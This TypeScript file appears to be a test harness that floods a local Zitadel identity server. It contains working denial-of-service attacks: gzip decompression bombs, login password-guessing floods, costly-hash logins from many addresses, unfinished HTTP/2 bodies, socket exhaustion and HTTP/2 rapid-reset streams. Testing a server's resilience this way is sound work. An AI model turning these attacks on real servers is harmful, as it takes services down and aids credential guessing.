/**
 * The attacks, each as long as it is wanted. They come from other addresses of this machine than
 * the honest callers; those that a botnet would make come from many.
 */
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import type { AttackName, AttackOrder } from './attack.ts'
import { session, strike } from './strike.ts'

/** Runs until `isWanted` says no; tells each answer. */
export interface Attack {
  readonly order: AttackOrder
  isWanted(): boolean
  tell(answer: string): void
}

const attacker = '127.0.0.2'

export const attacks: Readonly<Record<AttackName, (attack: Attack) => Promise<void>>> = {
  bombs,
  guesses,
  costly,
  bodies,
  sockets,
  resets,
}

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

/** So many at a time, each again and again. */
async function lanes(count: number, run: (lane: number) => Promise<void>, attack: Attack) {
  const lane = async (number: number) => {
    while (attack.isWanted()) await run(number)
  }
  await Promise.all(Array.from({ length: count }, (_, number) => lane(number)))
}

/** Four kilobytes that become millions of messages, without a token. */
async function bombs(attack: Attack): Promise<void> {
  const { port } = attack.order
  const json = gzipSync(`{"queries":[${'{},'.repeat(1_390_000)}{}]}`, { level: 9 })
  const proto = gzipSync(Buffer.from('1a00'.repeat(2_097_000), 'hex'), { level: 9 })
  const path = '/zitadel.user.v2.UserService/ListUsers'
  await lanes(
    8,
    async (lane) => {
      const isJson = lane % 2 === 0
      const headers = {
        'content-type': isJson ? 'application/json' : 'application/proto',
        'content-encoding': 'gzip',
      }
      const body = isJson ? json : proto
      attack.tell((await strike({ port, path, headers, body, from: attacker })).status)
    },
    attack,
  )
}

/** A visitor of the sign-in page who can send its forms. */
async function visitor(port: number, from: string) {
  const { headers, text } = await strike({ port, path: '/ui/login/login', from })
  const cookies = (headers['set-cookie'] ?? []).map((cookie) => cookie.split(';')[0])
  const csrf = /name="csrf" value="([^"]*)"/.exec(text)?.[1] ?? ''
  return {
    tryPassword: async (loginName: string) => {
      const form = new URLSearchParams({ csrf, loginName, password: 'Wrong-Word-1' })
      const headers = {
        'content-type': 'application/x-www-form-urlencoded',
        origin: `http://localhost:${port}`,
        cookie: cookies.join('; '),
      }
      const path = '/ui/login/password'
      return (await strike({ port, path, headers, body: String(form), from })).status
    },
  }
}

/** Passwords guessed for ever new names, fifty at a time. */
async function guesses(attack: Attack): Promise<void> {
  const { port } = attack.order
  const guesser = await visitor(port, attacker)
  let names = 0
  await lanes(
    50,
    async () => attack.tell(await guesser.tryPassword(`nobody-${++names}@example.com`)),
    attack,
  )
}

const costlyUsers = 20

/** As costly as is taken by default: seconds of a core, were there no line for each tenant. */
const costlyHash = '$2b$13$wVS3ivcQ0Gvf9UOKSJcr9.TdnJ9dZxQmBZx3.jmMvqQJGpCVqrKPu'
const costliest =
  '$argon2id$v=19$m=1048576,t=4,p=1$QwHQHxxQBp7QMB4bwuv0AQ$' +
  'yhVNmYYQFCioN+8EQRHqcJIP1NRxAH+g8l0Lh4iIUfI'

/** A tenant's users with the costliest hashes there are, tried from twenty networks. */
async function costly(attack: Attack): Promise<void> {
  const { port, tenantToken } = attack.order
  const add = async (name: string, hash: string) => {
    const body = JSON.stringify({
      ...{ username: name, hashedPassword: { hash } },
      profile: { givenName: 'Dear', familyName: 'Hash' },
      email: { email: `${name}@example.com`, isVerified: true },
    })
    const headers = { authorization: `Bearer ${tenantToken}`, 'content-type': 'application/json' }
    const path = '/v2/users/human'
    return (await strike({ port, path, headers, body, from: attacker })).status
  }
  attack.tell(`costliest hash: ${await add('costliest', costliest)}`)
  for (let i = 0; i < costlyUsers; i += 1) await add(`costly-${i}`, costlyHash)
  const guessers = await Promise.all(
    Array.from({ length: costlyUsers }, (_, i) => visitor(port, `127.0.2.${i + 1}`)),
  )
  await lanes(
    costlyUsers,
    async (lane) =>
      attack.tell((await guessers[lane]?.tryPassword(`costly-${lane}@example.com`)) ?? ''),
    attack,
  )
}

/** Bodies that are begun, half a megabyte each, and never end. */
async function bodies(attack: Attack): Promise<void> {
  const { port } = attack.order
  const chunk = Buffer.alloc(64 * 1024)
  const begin = (opened: ReturnType<typeof session>) => {
    const stream = opened.request({
      ':method': 'POST',
      ':path': '/zitadel.user.v2.UserService/ListUsers',
      'content-type': 'application/grpc',
      te: 'trailers',
    })
    stream.on('error', () => undefined)
    stream.on('response', (fields) => attack.tell(`grpc ${fields['grpc-status'] ?? 'open'}`))
    for (let sent = 0; sent < 8; sent += 1) stream.write(chunk)
  }
  await lanes(
    4,
    async () => {
      const opened = session(port, attacker)
      for (let i = 0; i < 60 && !opened.destroyed; i += 1) begin(opened)
      await pause(2000)
      opened.destroy()
    },
    attack,
  )
}

/** Every socket there is. */
async function sockets(attack: Attack): Promise<void> {
  const { port } = attack.order
  const open = new Set<Socket>()
  const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0'
  while (attack.isWanted()) {
    for (let i = 0; i < 200 && open.size < 12_000; i += 1) {
      const socket = connect({ host: '127.0.0.1', port, localAddress: attacker })
      open.add(socket)
      // What it is told must be read, or it never hears that it is closed.
      socket.on('error', () => undefined).resume()
      socket.on('connect', () => socket.write(preface, 'latin1'))
      socket.on('close', () => {
        open.delete(socket)
        if (attack.isWanted()) attack.tell('closed')
      })
    }
    await pause(50)
  }
  for (const socket of open) socket.destroy()
}

/** Streams that are reset as soon as they are begun. */
async function resets(attack: Attack): Promise<void> {
  const { port } = attack.order
  await lanes(
    20,
    async () => {
      const opened = session(port, attacker)
      for (let i = 0; i < 100 && !opened.destroyed && !opened.closed; i += 1) {
        const stream = opened.request({ ':method': 'POST', ':path': '/v2/users' })
        stream.on('error', () => undefined)
        stream.close(8)
      }
      await pause(5)
      attack.tell(opened.destroyed || opened.closed ? 'session ended' : 'session open')
      opened.destroy()
    },
    attack,
  )
}
